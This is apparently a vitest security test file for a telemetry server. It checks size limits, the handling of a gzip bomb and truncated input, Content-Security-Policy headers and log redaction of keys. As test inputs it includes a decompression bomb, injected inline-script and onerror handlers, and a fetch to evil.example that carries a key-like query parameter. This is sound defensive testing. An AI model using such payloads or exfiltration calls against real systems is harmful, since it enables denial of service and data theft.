import { readFile, stat } from 'node:fs/promises';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { removeStateDir, type Server, startServer } from '../support/server.ts';
import { launchBrowser } from './find-browser.ts';

let server: Server;
let browser: Browser;

beforeAll(async () => {
  [server, browser] = await Promise.all([startServer(), launchBrowser()]);
});
afterAll(async () => {
  await browser.close();
  await server.stop();
  await removeStateDir(server.stateDir);
});

const get = (path: string, key?: string) =>
  fetch(server.endpoint + path, { headers: key ? { Authorization: `Bearer ${key}` } : {} });

async function sendBatch(body: Uint8Array<ArrayBuffer>): Promise<number> {
  const digest = Buffer.from(await crypto.subtle.digest('SHA-256', body)).toString('base64');
  const answer = await fetch(`${server.endpoint}/v1/telemetry/batches`, {
    method: 'POST',
    headers: {
      Authorization: `Bearer ${server.publishableKey}`,
      'Content-Encoding': 'gzip',
      'Content-Digest': `sha-256=:${digest}:`,
    },
    body,
  });
  await answer.body?.cancel();
  return answer.status;
}

test('ten megabytes, a bomb and half a file come over a real connection and are refused, and the server goes on', async () => {
  const bomb = Uint8Array.from(gzipSync(Buffer.alloc(256 * 1024 * 1024)));
  const noise = crypto.getRandomValues(new Uint8Array(65_536));
  const large = Uint8Array.from({ length: 10 * 1024 * 1024 }, (_, i) => noise[i % noise.length]);
  expect(await sendBatch(large)).toBe(413);
  expect(await Promise.all(Array.from({ length: 4 }, () => sendBatch(bomb)))).toEqual(
    Array.from({ length: 4 }, () => 413),
  );
  expect(await sendBatch(Uint8Array.from(gzipSync('{}\n')).slice(0, -4))).toBe(400);
  expect(await (await get('/health')).json()).toEqual({ status: 'ok' });
});

test('every file that is served as a page or a script says what may run', async () => {
  const page = await (await get('/')).text();
  const scripts = [...page.matchAll(/(?:src|href)="(\/[^"]+)"/g)].map((match) => match[1]);
  expect(scripts.length).toBeGreaterThan(0);
  for (const path of ['/', '/console', '/service-worker.js', '/no/such/page', ...scripts]) {
    const { headers } = await get(path);
    const policy = headers.get('Content-Security-Policy') ?? '';
    expect([path, /script-src 'self' 'wasm-unsafe-eval';/.test(policy)]).toEqual([path, true]);
    expect([path, /unsafe-inline|'unsafe-eval'|\*/.test(policy)]).toEqual([path, false]);
    expect(headers.get('X-Content-Type-Options')).toBe('nosniff');
  }
});

test('a script that gets into the page does not run, and finds no way out', async () => {
  const page = await browser.newPage();
  await page.goto(server.endpoint);
  await page.evaluate(() => {
    const image = document.createElement('img');
    image.setAttribute('onerror', 'window.ran = true');
    image.src = '/no-image.png';
    const script = document.createElement('script');
    script.textContent = 'window.ran = true';
    document.body.append(image, script);
  });
  const leaked = await page.evaluate(() =>
    fetch('https://evil.example/?k=1').then(
      () => true,
      () => false,
    ),
  );
  await page.waitForTimeout(300);
  expect(await page.evaluate(() => 'ran' in window)).toBe(false);
  expect(leaked).toBe(false);
  await page.close();
});

test('what the server logs holds no key, also of streams that carry theirs in the address', async () => {
  const session = 'st_'.padEnd(46, 'x');
  for (const key of [server.secretKey, server.publishableKey, session])
    for (const path of ['/v1/live', '/v1/stream', '/v1/models']) {
      const answer = await get(`${path}?key=${key}`);
      await answer.body?.cancel();
    }
  await get('/v1/models', server.secretKey);
  const path = join(server.stateDir, 'server.log');
  const log = await readFile(path, 'utf8');
  expect(log).toContain('/v1/live');
  for (const key of [server.secretKey, server.publishableKey, session])
    expect(log.includes(key)).toBe(false);
  expect((await stat(path)).mode & 0o077).toBe(0);
});
